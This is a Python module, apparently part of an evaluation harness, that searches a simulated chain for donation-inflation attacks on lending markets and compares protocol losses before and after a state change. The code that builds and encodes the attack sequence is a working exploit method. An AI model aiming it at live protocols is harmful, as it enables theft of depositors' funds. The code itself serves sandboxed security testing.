"""Try attack sequences on a market and keep the one that costs the protocol most.

Sequences grow from known patterns, for every pair of reserves; amounts come from a
grid and then from a seeded random walk around the best. Nothing but the reserves and
the family's user actions is known to it.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, replace

import numpy as np

from evaluator.arena.bundles import BLOCK_GAS
from evaluator.arena.families import lending_of
from evaluator.arena.funds import BalanceSlot, balance_slot, funding
from evaluator.arena.lending import TOKEN, Lending, Step, base_units, view
from evaluator.chain.receipts import ZERO
from evaluator.chain.sandbox import Sandbox
from evaluator.chain.simulation import SimulatedBlock, SimulatedCall, StateOverride
from evaluator.chain.solidity import load_contract
from evaluator.errors import RpcError
from evaluator.market import Market

ATTACKER = "0x5ea70000000000000000000000000000000000aa"
GAS = 30_000_000  # units offered to the one transaction of an attack
_STREAM = 0xAD


@dataclass(frozen=True, kw_only=True, slots=True)
class Attack:
    """Donate to a market one holds a few base units of, borrow, take the donation back."""

    collateral: int  # reserve supplied and donated to, by index
    debt: int  # reserve borrowed, by index
    supplied: int  # base units supplied first
    donated: float  # whole tokens of the collateral sent to whoever holds its cash
    borrowed: float  # whole tokens of the debt asset
    returned: float  # share of the donation asked back, fraction


@dataclass(frozen=True, kw_only=True, slots=True)
class Outcome:
    """What an attack came to, at the prices before it."""

    profit: float  # USD, the attacker's tokens after less before
    loss: float  # USD, cash that left the market less what its claims fell by


@dataclass(frozen=True, kw_only=True, slots=True)
class AdversaryResult:
    """The best find of a search."""

    sequences: int  # attack sequences tried on the state after execution
    attack: Attack | None  # that costs the protocol most, None: none costs it anything
    capital: float  # USD it was given
    after: Outcome  # on the state after execution
    before: Outcome  # the same attack on the state before, zeros where it cannot be made
    atomic: bool  # one transaction, so that a flash loan can pay for it
    confirmed: bool  # repeated with a mined transaction
    what: str  # the way in a sentence, "" if nothing was found

    @property
    def gain_usd(self) -> float:
        """Gain that the state before does not allow, USD."""
        return max(self.after.profit - max(self.before.profit, 0.0), 0.0)

    @property
    def loss_usd(self) -> float:
        """Loss of the protocol that the state before does not allow, USD."""
        return max(self.after.loss - max(self.before.loss, 0.0), 0.0)


_NOTHING = Outcome(profit=0.0, loss=0.0)


class _Ground:
    """One market at one block, with what an attacker needs on it."""

    def __init__(self, sandbox: Sandbox, market: Market, block: int | str) -> None:
        self.sandbox, self.market, self.block = sandbox, market, block
        self.lending: Lending = lending_of(sandbox, market)
        self.artifact = load_contract("Attacker")
        self.slots: dict[int, BalanceSlot | None] = {}

    def slot(self, asset: int) -> BalanceSlot | None:
        if asset not in self.slots:
            token = self.market.reserves[asset].asset.address
            native = self.lending.pays_in_native(asset)
            self.slots[asset] = None if native else balance_slot(self.sandbox, token, ATTACKER)
        return self.slots[asset]

    def calldata(self, attack: Attack) -> bytes:
        a, b, lending = attack.collateral, attack.debt, self.lending
        token = self.market.reserves[a].asset.address
        donated = base_units(self.market, a, attack.donated)
        keeper = self.market.reserves[a].receipt_token
        steps: list[Step | None] = [
            lending.supply(ATTACKER, a, attack.supplied),
            lending.enter(ATTACKER, a),
            Step(
                calls=(
                    SimulatedCall(
                        sender=ATTACKER, to=token, data=TOKEN.encode("transfer", keeper, donated)
                    ),
                )
            ),
            lending.borrow(ATTACKER, b, base_units(self.market, b, attack.borrowed)),
            lending.withdraw(ATTACKER, a, int(donated * attack.returned)),
        ]
        calls = [(c.to, c.value, c.data, True) for s in steps if s is not None for c in s.calls]
        return self.artifact.abi.encode("run", calls)

    def views(self, attack: Attack) -> tuple[SimulatedCall, ...]:
        """The attacker's purse and the market's cash, of both assets."""
        out = []
        for asset in dict.fromkeys((attack.collateral, attack.debt)):
            r = self.market.reserves[asset]
            for who in (ATTACKER, r.receipt_token):
                out.append(view(r.asset.address, TOKEN.encode("balanceOf", who)))
        return tuple(out)

    def money(self, attack: Attack) -> tuple[StateOverride, ...] | None:
        place = self.slot(attack.collateral)
        if place is None:
            return None
        units = attack.supplied + base_units(self.market, attack.collateral, attack.donated)
        return funding([(place, units)])

    def try_out(self, attack: Attack) -> Outcome:
        money = self.money(attack)
        if money is None or self.lending.pays_in_native(attack.debt):
            return _NOTHING
        # With nobody in its immutable, the code as compiled obeys the zero address.
        code = StateOverride(address=ATTACKER, code=bytes.fromhex(self.artifact.runtime))
        run = SimulatedCall(sender=ZERO, to=ATTACKER, data=self.calldata(attack), gas=GAS)
        views = self.views(attack)
        block = SimulatedBlock(
            calls=(*views, run, *views), overrides=(*money, code), gas_limit=BLOCK_GAS
        )
        try:
            (result,) = self.sandbox.simulate([block], block=self.block)
        except RpcError:
            return _NOTHING
        if not all(c.succeeded for c in result.calls):
            return _NOTHING
        words = [int.from_bytes(c.return_data[:32], "big") for c in result.calls]
        return self.settle(attack, words[: len(views)], words[len(views) + 1 :])

    def settle(self, attack: Attack, first: Sequence[int], last: Sequence[int]) -> Outcome:
        assets = list(dict.fromkeys((attack.collateral, attack.debt)))
        profit = loss = 0.0
        for k, asset in enumerate(assets):
            r = self.market.reserves[asset].asset
            usd = r.price / 10**r.decimals
            profit += (last[2 * k] - first[2 * k]) * usd
            loss -= (last[2 * k + 1] - first[2 * k + 1]) * usd
        # What is left in the market counts as lost to the attacker: positions are abandoned.
        return Outcome(profit=profit, loss=loss)

    def confirm(self, attack: Attack) -> bool:
        """Make the attack with a mined transaction, undone afterwards."""
        sandbox, place = self.sandbox, self.slot(attack.collateral)
        if place is None:
            return False
        snapshot = sandbox.snapshot()
        try:
            sandbox.set_code(ATTACKER, bytes.fromhex(self.artifact.runtime))
            units = attack.supplied + base_units(self.market, attack.collateral, attack.donated)
            sandbox.set_storage(place.keeper, place.slot, units)
            sandbox.mine()
            views = [(v.to, v.data) for v in self.views(attack)]
            first = [_word(sandbox.call(*v)) for v in views]
            sandbox.send(ZERO, ATTACKER, self.calldata(attack), gas=GAS)
            last = [_word(sandbox.call(*v)) for v in views]
        finally:
            sandbox.revert(snapshot)
        return self.settle(attack, first, last).loss > 0.0


def search(
    sandbox: Sandbox,
    after: Market,
    before: Market,
    *,
    before_block: int | str,
    seed: int,
    budget: int = 400,
    capital: float = 100e6,
) -> AdversaryResult:
    """Search the state at the sandbox's head for an attack on `after`.

    `before` was read at `before_block`, a block whose state the node still has.
    `budget` is the number of sequences, `capital` USD. Raises the ChainError and
    ProtocolError trees.
    """
    ground = _Ground(sandbox, after, "latest")
    best: Attack | None = None
    found, tried = _NOTHING, 0
    rng = np.random.default_rng(np.random.SeedSequence(seed, spawn_key=(_STREAM,)))
    for attack in _patterns(after, capital)[: max(budget - budget // 4, 1)]:
        outcome, tried = ground.try_out(attack), tried + 1
        if min(outcome.profit, outcome.loss) > min(found.profit, found.loss):
            best, found = attack, outcome
    while best is not None and tried < budget:
        nudged = _nudge(best, rng)
        outcome, tried = ground.try_out(nudged), tried + 1
        if min(outcome.profit, outcome.loss) > min(found.profit, found.loss):
            best, found = nudged, outcome
    if best is None:
        return AdversaryResult(
            sequences=tried, attack=None, capital=0.0, after=_NOTHING, before=_NOTHING,
            atomic=True, confirmed=False, what="",
        )  # fmt: skip
    tokens = [after.reserves[i].asset for i in (best.collateral, best.debt)]
    return AdversaryResult(
        sequences=tried,
        attack=best,
        capital=best.donated * tokens[0].price,
        after=found,
        before=_on(sandbox, before, before_block, best, after),
        atomic=True,
        confirmed=ground.confirm(best),
        what=(
            f"hold {best.supplied} base units of the {tokens[0].symbol} market, send it "
            f"{best.donated:,.0f} {tokens[0].symbol}, borrow {best.borrowed:,.0f} "
            f"{tokens[1].symbol} against the grown shares, take the gift back"
        ),
    )


def _patterns(market: Market, capital: float) -> list[Attack]:
    """The pattern for every pair of reserves; collateral with the least supply first."""
    reserves = market.reserves
    usable = [a for a, r in enumerate(reserves) if r.parameters.ltv > 0.0 and r.asset.price > 0.0]
    usable.sort(key=lambda a: reserves[a].supplied * reserves[a].asset.price)
    debts = [b for b, r in enumerate(reserves) if r.cash > 0.0 and r.asset.price > 0.0]
    debts.sort(key=lambda b: -reserves[b].cash * reserves[b].asset.price)
    out = []
    for a in usable:
        for b in debts:
            if a == b:
                continue
            for part in (0.9, 0.3, 0.03):
                usd = min(part * reserves[b].cash * reserves[b].asset.price, capital * 0.2)
                gift = usd / reserves[a].parameters.ltv / 0.45
                for exponent in (0, 4, 8, 9, 10):
                    out.append(
                        Attack(
                            collateral=a,
                            debt=b,
                            supplied=4 * 10**exponent,
                            donated=min(gift, capital) / reserves[a].asset.price,
                            borrowed=usd / reserves[b].asset.price,
                            returned=1.0 - 1e-6,
                        )
                    )
    return out


def _nudge(attack: Attack, rng: np.random.Generator) -> Attack:
    a, b = np.exp(0.2 * rng.standard_normal(2))
    return replace(attack, donated=attack.donated * float(a), borrowed=attack.borrowed * float(b))


def _on(
    sandbox: Sandbox, market: Market, block: int | str, attack: Attack, found_on: Market
) -> Outcome:
    """Make the same attack on another reading; reserves are matched by market."""
    rows = {r.receipt_token.lower(): i for i, r in enumerate(market.reserves)}
    pair = [
        rows.get(found_on.reserves[i].receipt_token.lower())
        for i in (attack.collateral, attack.debt)
    ]
    if pair[0] is None or pair[1] is None:
        return _NOTHING
    return _Ground(sandbox, market, block).try_out(
        replace(attack, collateral=pair[0], debt=pair[1])
    )


def _word(data: bytes) -> int:
    return int.from_bytes(data[:32], "big")
